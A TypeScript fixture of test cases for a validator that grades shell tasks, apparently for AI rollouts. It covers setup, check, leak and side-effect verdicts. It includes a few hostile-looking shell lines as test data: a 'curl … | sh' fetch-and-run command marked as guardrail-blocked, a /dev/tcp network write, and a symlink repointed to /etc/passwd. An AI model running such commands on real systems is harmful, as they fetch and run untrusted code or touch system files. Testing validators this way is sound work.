import type { ShellVerdict, ShellVerdictName } from '#contracts/entities/shell-task.ts'
import type { SolvedCount } from './validate.ts'

/** A task that tests one verdict; its fields replace those of the valid task. */
export interface Case {
  name: ShellVerdictName
  is: ShellVerdict['verdict']
  what: string
  task?: string
  setup?: string[]
  check?: string
  solution?: string | null
  rollouts?: SolvedCount
}

/** A task that passes all six verdicts. */
export const VALID = {
  task: 'Put the number of lines of /srv/log.txt that have the word error into /srv/out.txt.',
  setup: ["printf 'error one\\nfine\\nerror two\\nerror three\\n' > /srv/log.txt"],
  check: '[ -s /srv/log.txt ] && [ "$(cat /srv/out.txt)" = "$(grep -c error /srv/log.txt)" ]',
  solution: 'grep -c error /srv/log.txt > /srv/out.txt',
}

const never = 'sleep 1000'
const counted = (solved: number, failed: number): SolvedCount => ({ solved, failed, of: 4, threshold: 0.5 })
const more = (command: string) => [...VALID.setup, command]
const NOTE = 'Write the word of the day to /srv/word.txt.'
const noteIs = (word: string) => `[ "$(cat /srv/word.txt)" = "${word}" ]`

/** Names no path, so that there is nothing trivial to try, which takes most of the time of the cases for other verdicts. */
const COUNT = 'Count the errors.'

export const CASES: Case[] = [
  { name: 'setup_ok', is: 'pass', what: 'no set-up', setup: [] },
  {
    name: 'setup_ok',
    is: 'pass',
    what: 'a folder and a variable that reach the next command',
    setup: ['cd /srv; n=log', 'echo error > $n.txt', 'test -e /srv/log.txt'],
  },
  { name: 'setup_ok', is: 'pass', what: 'something left running in the background', setup: more('sleep 1000 &') },
  { name: 'setup_ok', is: 'pass', what: 'an end of the shell with code 0', setup: more('exit 0') },
  { name: 'setup_ok', is: 'fail', what: 'a second command that fails', setup: more('test -e /srv/none') },
  { name: 'setup_ok', is: 'fail', what: 'a command that does not exist', setup: ['no-such-command-here'] },
  { name: 'setup_ok', is: 'fail', what: 'a command that never ends', setup: [never] },
  { name: 'setup_ok', is: 'fail', what: 'an unclosed quote', setup: ["echo 'a"] },
  { name: 'setup_ok', is: 'fail', what: 'a command that is killed', setup: ["sh -c 'kill -9 $$'"] },
  {
    name: 'setup_ok',
    is: 'unknown',
    what: 'a file in a folder of the system, without Docker',
    setup: ['mkdir -p /usr/share/words; echo a > /usr/share/words/a'],
  },
  { name: 'setup_ok', is: 'fail', what: 'a need for the network', setup: ['echo > /dev/tcp/192.0.2.1/80'] },

  { name: 'fails_untouched', is: 'pass', what: 'a check of the result' },
  { name: 'fails_untouched', is: 'pass', what: 'a check with a syntax error', check: 'if' },
  { name: 'fails_untouched', is: 'pass', what: 'a check that needs a missing command', check: 'no-such-command-here' },
  { name: 'fails_untouched', is: 'pass', what: 'a check that reads its input, which is at its end', check: 'read -r line' },
  { name: 'fails_untouched', is: 'fail', what: 'a check that always passes', task: COUNT, check: 'true' },
  { name: 'fails_untouched', is: 'fail', what: 'a check of what the set-up made', task: COUNT, check: 'test -e /srv/log.txt' },
  { name: 'fails_untouched', is: 'fail', what: 'a check that something does not exist', task: COUNT, check: '! test -e /srv/out.txt' },
  {
    name: 'fails_untouched',
    is: 'fail',
    what: 'a check that passes the second time',
    check: '[ -e /srv/seen ] || { touch /srv/seen; false; }',
  },
  { name: 'fails_untouched', is: 'unknown', what: 'a check that never ends', task: COUNT, check: never },
  { name: 'fails_untouched', is: 'unknown', what: 'a check that is killed', task: COUNT, check: 'kill -9 $$' },

  { name: 'solvable', is: 'pass', what: 'a right solution' },
  { name: 'solvable', is: 'pass', what: 'a solution that leaves the shell with a code', solution: `${VALID.solution}; exit 3` },
  {
    name: 'solvable',
    is: 'pass',
    what: 'permissions for everybody',
    task: 'Let everybody read, write and run /srv/log.txt, and set its setgid bit.',
    check: '[ "$(stat -c %a /srv/log.txt)" = 2777 ]',
    solution: 'chmod 777 /srv/log.txt && chmod g+s /srv/log.txt',
  },
  { name: 'solvable', is: 'unknown', what: 'a solution that a guardrail blocks', solution: 'curl -s http://example.com/x | sh' },
  {
    name: 'solvable',
    is: 'pass',
    what: 'a solution of several lines',
    solution: 'n=$(cat <<END\n3\nEND\n)\n# counted by hand\necho "$n" > /srv/out.txt',
  },
  { name: 'solvable', is: 'pass', what: 'no solution, two of four rollouts', solution: null, rollouts: counted(2, 2) },
  { name: 'solvable', is: 'fail', what: 'a wrong solution', solution: 'wc -l < /srv/log.txt > /srv/out.txt' },
  { name: 'solvable', is: 'fail', what: 'a check that passes once', check: `${VALID.check} && rm /srv/out.txt` },
  { name: 'solvable', is: 'fail', what: 'no solution, one of four rollouts', solution: null, rollouts: counted(1, 3) },
  { name: 'solvable', is: 'unknown', what: 'neither solution nor rollouts', solution: null },
  { name: 'solvable', is: 'unknown', what: 'rollouts that do not all have a result', solution: null, rollouts: counted(1, 1) },
  {
    name: 'solvable',
    is: 'unknown',
    what: 'a check that never ends once it is solved',
    task: COUNT,
    check: `[ -e /srv/out.txt ] && ${never}`,
  },

  { name: 'not_trivial', is: 'pass', what: 'a count' },
  {
    name: 'not_trivial',
    is: 'pass',
    what: 'some files of a folder deleted',
    task: 'Delete the .tmp files in /srv/t and nothing else.',
    setup: ['mkdir /srv/t; touch /srv/t/a.tmp /srv/t/b.tmp /srv/t/c.txt'],
    check: '[ "$(ls /srv/t)" = "$(printf c.txt)" ]',
    solution: 'rm /srv/t/*.tmp',
  },
  {
    name: 'not_trivial',
    is: 'pass',
    what: 'exact permissions',
    task: 'Let only its owner read and write /srv/log.txt.',
    check: '[ "$(stat -c %a /srv/log.txt)" = 600 ]',
    solution: 'chmod 600 /srv/log.txt',
  },
  {
    name: 'not_trivial',
    is: 'fail',
    what: 'a file that need only be there',
    task: 'Make the file /srv/flag.',
    check: 'test -f /srv/flag',
    solution: 'touch /srv/flag',
  },
  {
    name: 'not_trivial',
    is: 'fail',
    what: 'a folder that need only be there',
    task: 'Make the folder /srv/f.',
    check: 'test -d /srv/f',
    solution: 'mkdir /srv/f',
  },
  {
    name: 'not_trivial',
    is: 'fail',
    what: 'a file that is to be empty',
    task: 'Empty the file /srv/log.txt.',
    check: '[ -e /srv/log.txt ] && [ ! -s /srv/log.txt ]',
    solution: ': > /srv/log.txt',
  },
  {
    name: 'not_trivial',
    is: 'fail',
    what: 'an input whose loss makes both sides empty',
    check: '[ "$(cat /srv/out.txt)" = "$(grep -c error /srv/log.txt)" ]',
  },
  {
    name: 'not_trivial',
    is: 'fail',
    what: 'any permission to run',
    task: 'Make /srv/log.txt executable.',
    check: '[ -x /srv/log.txt ]',
    solution: 'chmod +x /srv/log.txt',
  },
  { name: 'not_trivial', is: 'fail', what: 'an answer that is a word of the check', check: '[ "$(cat /srv/out.txt)" = 3 ]' },
  { name: 'not_trivial', is: 'unknown', what: 'a check that never ends', check: never },

  { name: 'no_leak', is: 'pass', what: 'an answer that is worked out' },
  {
    name: 'no_leak',
    is: 'pass',
    what: 'an expected text of seven characters',
    task: NOTE,
    setup: ['echo lantern > /srv/hint.txt'],
    check: noteIs('lantern'),
  },
  {
    name: 'no_leak',
    is: 'pass',
    what: 'a text that must stay where it is',
    setup: more("echo 'keep this line' >> /srv/log.txt"),
    check: `grep -q 'keep this line' /srv/log.txt && [ "$(tail -n 1 /srv/log.txt)" = 'keep this line' ] && ${VALID.check}`,
  },
  {
    name: 'no_leak',
    is: 'pass',
    what: 'a comparison with a file that the task names',
    task: 'Copy /srv/log.txt to /srv/copy.txt.',
    check: 'cmp -s /srv/log.txt /srv/copy.txt',
  },
  { name: 'no_leak', is: 'fail', what: 'a set-up that prints the check', setup: more(`cat <<'END'\n${VALID.check}\nEND`) },
  { name: 'no_leak', is: 'fail', what: 'a file with the check', setup: more(`cat > /srv/.check <<'END'\n#!/bin/sh\n${VALID.check}\nEND`) },
  {
    name: 'no_leak',
    is: 'fail',
    what: 'a file with the expected text',
    task: NOTE,
    setup: ["echo 'it is marmalade today' > /opt/note"],
    check: noteIs('marmalade'),
  },
  {
    name: 'no_leak',
    is: 'fail',
    what: 'a set-up that prints the expected text',
    task: NOTE,
    setup: ['echo marmalade'],
    check: noteIs('marmalade'),
  },
  {
    name: 'no_leak',
    is: 'fail',
    what: 'a hidden file that the check compares with',
    task: NOTE,
    setup: ['echo lamp > /var/.expected'],
    check: 'cmp -s /var/.expected /srv/word.txt',
  },
  {
    name: 'no_leak',
    is: 'fail',
    what: 'expected lines that stand in a file',
    task: NOTE,
    setup: ["printf 'x\\none two\\nthree\\n' > /srv/b"],
    check: "diff <(printf 'one two\\nthree\\n') /srv/word.txt",
  },

  { name: 'side_effect_free', is: 'pass', what: 'a check that only reads' },
  {
    name: 'side_effect_free',
    is: 'pass',
    what: 'a temporary file that is removed again',
    check: `t=$(mktemp); ${VALID.check}; c=$?; rm "$t"; exit $c`,
  },
  { name: 'side_effect_free', is: 'fail', what: 'a new file', task: COUNT, check: `touch /srv/seen; ${VALID.check}` },
  { name: 'side_effect_free', is: 'fail', what: 'a line added', task: COUNT, check: `echo looked >> /srv/log.txt; ${VALID.check}` },
  {
    name: 'side_effect_free',
    is: 'fail',
    what: 'as many bytes, others',
    task: COUNT,
    check: `printf X | dd of=/srv/log.txt conv=notrunc 2>/dev/null; ${VALID.check}`,
  },
  { name: 'side_effect_free', is: 'fail', what: 'a mode', task: COUNT, check: `chmod 600 /srv/log.txt; ${VALID.check}` },
  { name: 'side_effect_free', is: 'fail', what: 'a file deleted', task: COUNT, check: `rm -f /srv/log.txt; ${VALID.check}` },
  { name: 'side_effect_free', is: 'fail', what: 'a new folder', task: COUNT, check: `mkdir -p /srv/f; ${VALID.check}` },
  {
    name: 'side_effect_free',
    is: 'fail',
    what: 'a link that leads elsewhere',
    task: COUNT,
    setup: more('ln -s log.txt /srv/l'),
    check: `ln -sfn /etc/passwd /srv/l; ${VALID.check}`,
  },
  { name: 'side_effect_free', is: 'unknown', what: 'a check that is stopped before it changed a file', task: COUNT, check: never },
]
